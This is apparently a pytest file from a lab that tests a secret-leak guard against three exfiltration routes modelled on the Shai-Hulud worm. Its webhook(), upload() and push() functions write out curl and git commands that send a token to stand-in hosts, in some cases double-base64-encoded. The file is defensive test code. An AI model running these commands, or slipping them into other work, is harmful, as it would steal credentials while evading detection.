# SPDX-License-Identifier: MIT
"""I-11, Shai-Hulud 1: a worm's three ways out, each with a secret of its own.

A workflow that it pushed posts all secrets to a webhook with curl; a file in base64 of base64 goes
into a repository of an allowed forge, by its API and by ``git push``.
"""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from lab import Lab
from lab.collector import Collector
from lab.guard import FINDINGS, Guarded, assert_leak_stopped
from lab.services import Service
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

FORGE = "forge.test"
WEBHOOK = "webhook.collector.test"
POLICY = f"version: 1\nallow: {FORGE}\n"
TWICE = "base64 -w0 | base64 -w0"
AUTHOR = "-c user.name=worm -c user.email=worm@forge.test"


@pytest.fixture
def forge(lab: Lab) -> Collector:
    """The forge that the policy allows."""
    return lab.serve(FORGE, ("203.0.113.41", "2001:db8::41"), speaks=Service)


def webhook(lab: Lab, token: Token) -> list[str]:
    """The pushed workflow: ``toJSON(secrets)`` on curl's command line."""
    contents = json.dumps({token.name: token.value})
    script = lab.directory / "step.sh"
    script.write_text(f"curl -s -d '{contents}' https://{WEBHOOK}/bb8c; echo done\n")
    return ["sh", str(script)]


def upload(token: Token) -> list[str]:
    """``data.json`` through the API."""
    file = f'printf %s "{{\\"t\\":\\"${token.name}\\"}}" | {TWICE} > data.json'
    return ["sh", "-c", f"{file}; curl -s -T data.json https://{FORGE}/r/contents/data.json; true"]


def push(lab: Lab, token: Token) -> list[str]:
    """``data.json`` in a commit."""
    script = lab.directory / "migrate-repos.sh"
    script.write_text(
        "set -e; git init -q -b main repository; cd repository\n"
        f'printf %s "${token.name}" | {TWICE} > data.json; git add data.json\n'
        f"git {AUTHOR} commit -q -m 'Shai-Hulud Migration'\n"
        f"GIT_SSL_CAINFO=$SSL_CERT_FILE git push -q https://{FORGE}/r main\n"
    )
    return ["sh", str(script)]


def commands(lab: Lab, token: Token) -> dict[str, list[str]]:
    """The three ways."""
    return {
        "webhook": webhook(lab, token),
        "upload": upload(token),
        "push": push(lab, token),
    }


@pytest.mark.parametrize("way", ["webhook", "upload", "push"])
def test_unguarded_it_arrives(lab: Lab, forge: Collector, secret: Token, way: str) -> None:
    done = lab.run(commands(lab, secret)[way], env=secret.env)
    assert done.returncode == 0, done.stderr
    sent = {
        "webhook": lab.collector.received(secret.value.encode()),
        "upload": forge.received(b"PUT /r/contents/data.json"),
        "push": forge.received(b"PACK"),
    }
    assert sent[way]


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_the_webhook_gets_nothing(lab: Lab, leakstop: Guard, secret: Token, mode: str) -> None:
    run = leakstop(webhook(lab, secret), mode=mode, policy=POLICY, secrets=[secret])
    assert lab.collector.connections == []
    assert_leak_stopped(run, secret, finding="secret-in-argv", program="curl", destination=WEBHOOK)


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_the_upload_to_an_allowed_forge_is_stopped(
    lab: Lab, forge: Collector, leakstop: Guard, secret: Token, mode: str
) -> None:
    run = leakstop(upload(secret), mode=mode, policy=POLICY, secrets=[secret])
    assert not forge.received(b"PUT ") or b"".join(_bodies(forge)) == b""
    assert_leak_stopped(run, secret, finding="secret-in-tls", program="curl", destination=FORGE)
    assert run.findings()[0]["encoding"] == "base64-twice"


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_a_commit_is_packed_and_found_too_late(
    lab: Lab, forge: Collector, leakstop: Guard, secret: Token, mode: str
) -> None:
    """Objects in a pack are deflated: only the agent's copy is looked through that deep."""
    run = leakstop(push(lab, secret), mode=mode, policy=POLICY, secrets=[secret])
    assert forge.received(b"PACK")
    assert run.code == FINDINGS, run.stderr
    (found,) = run.findings("secret-in-tls")
    assert (found["severity"], found["secret"]) == ("critical", secret.name)
    assert found["bytes_left"] != 0
    assert run.shows(secret) == []


def _bodies(host: Collector) -> list[bytes]:
    return [bytes(seen.plain).partition(b"\r\n\r\n")[2] for seen in host.connections]
